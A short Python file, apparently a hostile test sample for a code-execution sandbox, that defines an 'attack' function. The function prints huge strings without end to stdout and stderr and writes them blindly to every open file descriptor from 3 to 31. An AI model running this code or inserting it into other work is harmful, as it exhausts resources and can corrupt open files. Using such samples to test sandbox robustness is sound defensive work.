# Prints without end, on both streams and on every open file.
import os
import sys


def attack(*arguments):
    while True:
        print("x" * 100_000)
        print("x" * 100_000, file=sys.stderr)
        for number in range(3, 32):
            try:
                os.write(number, b"x" * 100_000)
            except OSError:
                pass
